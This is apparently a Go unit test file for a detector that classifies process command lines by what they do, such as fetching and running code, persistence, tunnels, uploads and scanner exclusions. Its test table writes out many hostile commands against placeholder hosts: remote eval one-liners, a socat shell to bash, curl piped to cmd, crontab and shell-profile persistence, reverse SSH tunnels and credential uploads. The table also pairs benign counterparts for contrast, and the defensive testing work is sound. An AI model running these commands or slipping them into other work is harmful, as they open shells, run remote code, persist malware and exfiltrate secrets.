package chain

import (
	"testing"

	"meetguard"
)

// Each primitive over tools that can do it: what they bring, send, keep and
// open is told alike.
func TestDeedsByMeaning(t *testing.T) {
	for _, tc := range []struct{ system, line, want string }{
		{"linux", `ruby -ropen-uri -e 'eval(URI.open(%q(https://a.invalid/r)).read)'`, "fetch and run   a.invalid ruby"},
		{"linux", `php -r 'eval(file_get_contents("https://a.invalid/r"));'`, "fetch and run   a.invalid php"},
		{"linux", `php -r 'echo file_get_contents("https://a.invalid/r");'`, "fetch   a.invalid php"},
		{"linux", `node -e 'fetch("https://a.invalid/r").then(r=>r.text()).then(eval)'`, "fetch and run   a.invalid node"},
		{"linux", `python3 -c 'import urllib.request as u;u.urlretrieve("https://a.invalid/x","/tmp/x")'`, "fetch /tmp/x  a.invalid python"},
		{"linux", `sh -c 'curl -s https://a.invalid/j > /tmp/j'`, "fetch /tmp/j  a.invalid curl; fetch   a.invalid curl"},
		{"linux", `dig +short TXT fix.a.invalid`, "fetch   fix.a.invalid name service"},
		{"linux", `socat TCP:198.51.100.4:443 EXEC:/bin/bash`, "connect   198.51.100.4 socat"},
		{"linux", `curl -s http://3325256722/z`, "fetch   198.51.100.18 curl"},
		{"linux", `curl -s http://0xC6336412/z`, "fetch   198.51.100.18 curl"},
		{"linux", `curl -s http://4711/z`, "fetch   4711 curl"},
		{"linux", `nc -zv zoom.us 443`, ""},
		{"linux", `scp /tmp/a.tgz me@a.invalid:in/`, "pack me@a.invalid:in/ /tmp/a.tgz  copy; upload /tmp/a.tgz  a.invalid scp"},
		{"linux", `openssl enc -d -in /tmp/e -out /tmp/e.sh`, "encoded /tmp/e.sh /tmp/e  openssl"},
		{"linux", `openssl enc -aes-128-cbc -in /tmp/e.tar -out /tmp/e.bin`, "pack /tmp/e.bin /tmp/e.tar  openssl"},
		{"linux", `sh -c 'echo "nohup ~/.x/a &" >> ~/.bashrc'`, "persist ~/.bashrc ~/.x/a  profile"},
		{"linux", `sh -c 'echo "export PATH=~/bin" >> ~/.bashrc'`, ""},
		{"linux", `sh -c '(crontab -l; echo "@reboot /home/a/.x/b") | crontab -'`, "persist /home/a/.x/b   crontab"},
		{"linux", `at -f /tmp/j now + 2 minutes`, "persist /tmp/j   at"},
		{"linux", `at -l`, ""},
		{"linux", `ssh -fN -R 2222:localhost:22 u@a.invalid`, "let in   a.invalid tunnel"},
		{"linux", `ssh -N -L 8080:localhost:80 u@a.invalid`, ""},
		{"linux", `chmod 4755 /usr/lib/x/.d`, "make executable /usr/lib/x/.d   "},
		{"linux", `docker run -v /home/ana:/data registry.a.invalid/x:1`, "fetch and run   registry.a.invalid container; take secret    home"},
		{"linux", `docker run -v /home/ana/src:/src alpine sh -c 'curl -s https://a.invalid'`, ""},
		{"linux", `cat /home/ana/.ssh/id_ed25519.pub`, ""},
		{"darwin", `hdiutil attach -nobrowse /tmp/d.dmg`, "run /tmp/d.dmg   hdiutil; unpack /Volumes /tmp/d.dmg  hdiutil"},
		{"darwin", `aa archive -d /tmp/.q -o /tmp/.q.aar`, "pack /tmp/.q.aar /tmp/.q  aa"},
		{"darwin", `defaults write com.apple.loginwindow LoginHook /tmp/j`, "persist /tmp/j   login hook"},
		{"linux", `xinput test-xi2 --root`, "spy    keyboard"},
		{"linux", `install -m 4755 /tmp/z /usr/local/bin/z`, "pack /usr/local/bin/z /tmp/z  copy; make executable /usr/local/bin/z   "},
		{"darwin", `osascript -e 'tell application "Finder" to set name of folder "com.apple.TCC" of folder "Application Support" to "x"'`, "let in    privacy list"},
		{"windows", `wmic process call create C:\Users\a\AppData\Local\Temp\x.exe`, `hide C:\Users\a\AppData\Local\Temp\x.exe   detour; run C:\Users\a\AppData\Local\Temp\x.exe   program`},
		{"windows", `joiner.com -s -o C:\ProgramData\jc.png https://a.invalid/b`, `fetch C:\ProgramData\jc.png  a.invalid joiner.com`},
		{"windows", `msedge.exe --remote-debugging-port=9333 --user-data-dir=C:\Users\a\AppData\Local\Microsoft\Edge\UserData`, ""},
		{"windows", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d "node %APPDATA%\x\a.js"`, `persist node %APPDATA%\x\a.js   run key`},
		{"windows", `net user support P4ss /add`, "let in    account"},
		{"linux", `cloudflared tunnel run --token x`, "let in    relay"},
		{"linux", `ngrok tcp 22`, "let in    relay"},
		{"linux", `ssh-keygen -t ed25519 -C tunnel`, ""},
		{"linux", `xdg-mime default jl.desktop x-scheme-handler/zoommtg`, "persist jl.desktop   link handler"},
		{"linux", `xdg-mime query default x-scheme-handler/zoommtg`, ""},
		{"linux", `xdg-mime default Zoom.desktop x-scheme-handler/zoommtg`, ""},
		{"linux", `git config --global core.hooksPath .githooks`, ""},
		{"linux", `git config --global core.hooksPath /home/ana/.x/hooks`, "persist /home/ana/.x/hooks   developer tool"},
		{"linux", `npm config set registry https://npm.a.invalid/`, "trust   npm.a.invalid npm"},
		{"linux", `sh -c 'echo "alias git=~/.x/git; command git" >> ~/.zshrc'`, "persist ~/.zshrc ~/.x/git  profile"},
		{"linux", `sh -c 'echo "alias ll=\"ls -la\"" >> ~/.zshrc'`, ""},
		{"linux", `php -d allow_url_include=1 -r "include 'https://a.invalid/t';"`, "fetch and run   a.invalid php"},
		{"linux", `gh gist create /home/ana/.config/gh/hosts.yml`, "take secret    cloud; upload /home/ana/.config/gh/hosts.yml  gist.github.com gh"},
		{"darwin", `/Users/ana/Library/x/ff -f avfoundation -i :0 /Users/ana/.x/m.ogg`, "run /Users/ana/Library/x/ff   program; spy /Users/ana/.x/m.ogg   microphone"},
		{"windows", `C:\ProgramData\x\fd.exe -m 256 -nographic -drive file=C:\ProgramData\x\g.qcow2,if=virtio`, `run C:\ProgramData\x\fd.exe   program; hide C:\ProgramData\x\g.qcow2   machine`},
		{"windows", `setx DOTNET_STARTUP_HOOKS C:\Users\ana\h.dll`, `persist C:\Users\ana\h.dll   environment hook`},
		{"windows", `cmd /c "for /f %i in ('finger a@b.invalid') do call %i"`, "fetch and run   b.invalid finger"},
		{"windows", `cmd /c "for /f %i in ('curl -s https://b.invalid') do echo %i"`, ""},
		{"windows", `wscript C:\Windows\System32\SyncAppvPublishingServer.vbs "n; &(gal i*x) 'b.invalid'"`, "hide    detour; encoded    split"},
		{"windows", `cmd /v /c "set a=ms&&set b=iexec&&!a!!b! /i http://203.0.113.9/v.msi /qn"`, "fetch and run   203.0.113.9 msiexec"},
		{"windows", `cmd /c "set x=b.invalid&curl -sk https://%x%/r | cmd"`, "fetch and run   b.invalid curl; fetch   b.invalid curl"},
		{"windows", `cmd /c "curl -s https://b.invalid/list | findstr x"`, "fetch   b.invalid curl"},
		{"windows", `cmd /c "set JAVA_HOME=C:\jdk&& mvn -q verify"`, ""},
		{"linux", `/tmp/help --password Call2026 --config rs.b.invalid`, "run /tmp/help   program; let in   rs.b.invalid remote control"},
		{"linux", `/tmp/dump --password x --config /etc/dump.conf --all`, "run /tmp/dump   program"},
		{"windows", `SyncAppvPublishingServer.exe 1`, ""},
		{"linux", `rsync -az /home/ana/.config ana@b.invalid:backup/`, "pack ana@b.invalid:backup/ /home/ana/.config  copy; upload /home/ana/.config  b.invalid rsync"},
		{"windows", `powershell -c "Add-MpPreference -ExclusionPath 'C:\Program Files\Praxis'"`, ""},
		{"windows", `powershell -c "Add-MpPreference -ExclusionPath 'C:\Users\ana'"`, "blind scanner    defender"},
		{"windows", `setx NODE_OPTIONS --max-old-space-size=4096`, ""},
	} {
		words := Split(tc.system, tc.line)
		p := &meetguard.Process{OS: tc.system, Exe: words[0], Args: words}
		got := ""
		for _, d := range Deeds(&meetguard.Facts{Process: p}) {
			if got != "" {
				got += "; "
			}
			from := d.From
			if d.Kind == meetguard.DeedConnect || d.Kind == meetguard.DeedFetch || d.Kind == meetguard.DeedFetchRun {
				from = ""
			}
			got += d.Kind + " " + d.File + " " + from + " " + d.Host + " " + d.What
		}
		if got != tc.want {
			t.Errorf("%s:\n got %q\nwant %q", tc.line, got, tc.want)
		}
	}
}

func TestPipesJoin(t *testing.T) {
	tr := New()
	launch(tr, 0, 50, 1, "/usr/libexec/gnome-terminal-server", "")
	launch(tr, 0, 51, 50, "/bin/bash", "bash")
	a := launch(tr, 1, 60, 51, "/usr/bin/curl", "curl -s https://a.invalid/x")
	b := launch(tr, 1, 61, 51, "/bin/sh", "sh")
	c := launch(tr, 2, 62, 61, "/bin/mkdir", "mkdir /tmp/x")
	d := launch(tr, 40, 63, 51, "/bin/sh", "sh")
	if a.Chain != b.Chain || c.Chain != a.Chain {
		t.Errorf("a pipe is no chain: %q %q %q", a.Chain, b.Chain, c.Chain)
	}
	if d.Chain == a.Chain {
		t.Error("a shell that started later belongs to the pipe")
	}
}

func TestOpenedPackage(t *testing.T) {
	tr := New()
	p := &meetguard.Process{OS: "darwin", PID: 10, Exe: "/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer", Started: start, OriginHost: "a.invalid"}
	tr.Ancestry(p)
	tr.Ancestry(&meetguard.Process{OS: "darwin", PID: 11, Exe: "/System/x/package_script_service", Started: start.Add(1e9)})
	s := &meetguard.Process{OS: "darwin", PID: 12, PPID: 11, Exe: "/bin/bash", Started: start.Add(2e9)}
	tr.Ancestry(s)
	if len(s.Ancestors) != 1 || s.Ancestors[0].OriginHost != "a.invalid" {
		t.Errorf("the script of the package does not know where it came from: %+v", s.Ancestors)
	}
}
